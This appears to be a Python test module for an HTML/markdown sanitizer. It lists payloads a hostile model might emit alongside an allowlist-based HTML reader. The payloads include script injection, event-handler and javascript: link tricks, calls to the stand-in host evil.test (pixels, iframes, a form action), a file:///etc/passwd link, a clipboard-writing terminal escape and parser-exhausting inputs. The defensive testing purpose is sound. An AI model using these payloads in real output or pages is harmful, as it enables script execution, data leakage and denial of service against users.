"""What a hostile model may write, to run a script, to call home or to leave its pane."""

from __future__ import annotations

from html.parser import HTMLParser

MARKUP = (
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<script\n>window.hacked=1</script\n>",
    "<script type=module>import '//evil.test/x.js'</script>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="https://evil.test/pixel.png">',
    "<img srcset='https://evil.test/a.png 2x'>",
    '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.test/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=javascript:window.hacked=1></foreignObject></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:window.hacked=1'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<iframe src=https://evil.test/></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=https://evil.test/x.swf></object>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.test/x)'>x</div>",
    '<p style="width:expression(window.hacked=1)">x</p>',
    "<form action=https://evil.test/><input name=key><button>Go</button></form>",
    "<input autofocus onfocus=window.hacked=1>",
    "<button formaction=javascript:window.hacked=1>x</button>",
    "<textarea></textarea><script>window.hacked=1</script>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<body onload=window.hacked=1>",
    "<video autoplay src=https://evil.test/x.mp4 onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1></audio>",
    "<video poster=https://evil.test/x.png></video>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<dialog open>x</dialog>",
    "<template><script>window.hacked=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "<!--><img src=x onerror=window.hacked=1>-->",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<?xml version='1.0'?><x onclick=window.hacked=1>",
    "</div></td></tr></table></section><script>window.hacked=1</script>",
    "</pre></code></textarea></title></style></script><img src=x onerror=window.hacked=1>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "&amp;lt;script&amp;gt;window.hacked=1",
    "\\<script>window.hacked=1\\</script>",
    "<x-element is=script onclick=window.hacked=1>",
    "＜script＞window.hacked=1＜/script＞",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= window.hacked=1 %>",
)
LINKS = (
    "[a](javascript:window.hacked=1)",
    "[a](JaVaScRiPt:window.hacked=1)",
    "[a](java\tscript:window.hacked=1)",
    "[a](<java\tscript:window.hacked=1>)",
    "[a](&#106;avascript:window.hacked=1)",
    "[a](javascript&colon;window.hacked=1)",
    "[a](\\javascript:window.hacked=1)",
    "[a](%6aavascript:window.hacked=1)",
    "[a](\x01javascript:window.hacked=1)",
    "[a](vbscript:window.hacked=1)",
    "[a](data:text/html,<script>window.hacked=1</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[a](//evil.test/) [b](/lab/api/shutdown) [c](#jp-main-dock-panel) [d](file:///etc/passwd)",
    '[a](https://good.test/"onmouseover="window.hacked=1)',
    "[a](https://good.test/ '\" onclick=window.hacked=1 x=\"')",
    "[a](https://good.test/><script>window.hacked=1</script>)",
    "[<img src=x onerror=window.hacked=1>](https://good.test/)",
    "<javascript:window.hacked=1>",
    "<data:text/html,<script>window.hacked=1</script>>",
    '<https://good.test/"onclick=window.hacked=1>',
    "[a][x]\n\n[x]: javascript:window.hacked=1 'title'",
    "[x]: <javascript:window.hacked=1>\n\n[x]",
    "![a](https://evil.test/pixel.png)",
    '![a](https://evil.test/pixel.png "onerror=window.hacked=1")',
    "![<script>window.hacked=1</script>](x)",
    "![a](javascript:window.hacked=1)",
    "![a](data:image/svg+xml,<svg onload=window.hacked=1>)",
    "[![a](https://evil.test/pixel.png)](javascript:window.hacked=1)",
    "![a][x]\n\n[x]: https://evil.test/pixel.png",
    "```html\n<script>window.hacked=1</script>\n```",
    '```"><script>window.hacked=1</script>\nx\n```',
    "```js\n</code></pre><img src=x onerror=window.hacked=1>\n```",
    "`<script>window.hacked=1</script>`",
    "    <script>window.hacked=1</script>",
    "| <img src=x onerror=window.hacked=1> | b |\n|:-|-:|\n| <script>window.hacked=1</script> | [a](x:) |",
    "# <script>window.hacked=1</script>",
    "1. <svg onload=window.hacked=1>\n2. [a](javascript:window.hacked=1)",
    "> <iframe src=javascript:window.hacked=1>",
    "~~<script>window.hacked=1</script>~~ **<b onclick=window.hacked=1>x</b>**",
    "$\\href{javascript:window.hacked=1}{click}$ \\(\\require{html}\\style{position:fixed;inset:0}{x}\\)",
    "$$\\unicode{x3c}\\class{workbench-copy}{x}\\cssId{main}{y}$$ \\begin{align}x\\end{align}",
    "$<script>window.hacked=1</script>$ \\(<img src=x onerror=window.hacked=1>\\)",
)
LAYOUT = (
    "wide" * 3_000,
    "`" + "code" * 2_000 + "`",
    "```\n" + "line" * 2_000 + "\n```",
    "| " + " | ".join(["cell"] * 200) + " |\n" + "|---" * 200 + "|\n",
    "a" + "\u0300\u0301\u0302\u0310\u0323\u0324\u0330\u0331" * 100,
    "\u202e\u2066right to left\u202d over\u2067ride " * 5,
    "\u200b\u200d\ufeff\u2028\u2029invisible",
    "\x1b[31mred\x1b[0m \x1b]52;c;ZWNobyBoaQ==\x07 \x9b2J",
    "null \x00 byte \x00<script>\x00window.hacked=1",
    "﷽" * 200 + "𒐫" * 200,
    "\n" * 500 + "far below",
    "# " + "Huge " * 500,
    "🏳️‍🌈" * 500,
)  # fmt: skip
BOMBS = (
    "[" * 10_000,
    "![" * 10_000,
    ">" * 10_000,
    "> " * 5_000 + "x",
    "- " * 5_000 + "x",
    "1. " * 3_000 + "x",
    "\n".join("  " * depth + "- x" for depth in range(150)),
    "*" * 10_000,
    "*a **b " * 3_000,
    "a_b*c**d__" * 2_000,
    "[a](" * 3_000,
    "[a](<b" * 3_000,
    "![a](b" * 3_000,
    "".join("`" * length + " " for length in range(150)),
    "<" * 10_000,
    "<a@" * 5_000,
    "&" * 10_000,
    "\\" * 10_000,
    "$" * 10_000,
    "\\[" * 5_000,
    "~~a" * 5_000,
    "|" * 3_000 + "\n" + "|-" * 3_000 + "|\n" + "|\n" * 20,
    "```md\n" + "*_[" * 2_500 + "\n```",
    "```java\n" + "$\n" * 3_900 + "\n```",
    "```python\n" + '"""\'' * 1_900 + "\n```",
    ("![" * 290 + "\n\n") * 20,
    "`" * 10_000,
)
PAYLOADS = (*MARKUP, *LINKS, *LAYOUT, *BOMBS)

ALLOWED = {
    "a": {"href", "target", "rel", "style"},
    "ol": {"start", "style"},
    "th": {"scope", "style"},
    "td": {"style"},
} | {
    tag: {"style"}
    for tag in (
        "div", "p", "b", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "li", "blockquote", "hr", "pre", "code",
        "em", "strong", "s", "br", "table", "caption", "thead", "tbody", "tr", "ins", "del", "span",
    )
}  # fmt: skip


class Reader(HTMLParser):
    """Reads HTML as a page would: what is an element, with which attributes, and what is text.

    Attributes:
        strange: Elements and attributes that nothing of ours has, and what is not closed.
        open: The elements that are not closed.
    """

    def __init__(self) -> None:
        super().__init__()
        self.strange: list[str] = []
        self.open: list[str] = []
        self.words: list[str] = []

    @property
    def text(self) -> str:
        return "".join(self.words)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"br", "hr"}:
            self.open.append(tag)
        allowed = ALLOWED.get(tag)
        if allowed is None:
            self.strange.append(tag)
            return
        for name, value in attrs:
            leads_away = name == "href" and not (value or "").startswith(("http://", "https://", "mailto:"))
            if name not in allowed or leads_away or (name == "style" and "(" in (value or "")):
                self.strange.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.strange.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.strange.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.strange.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.strange.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.strange.append(f"instruction {data}")


def read(html: str) -> Reader:
    """Read a piece of HTML to its end."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    reader.strange += [f"{tag} is not closed" for tag in reader.open]
    return reader
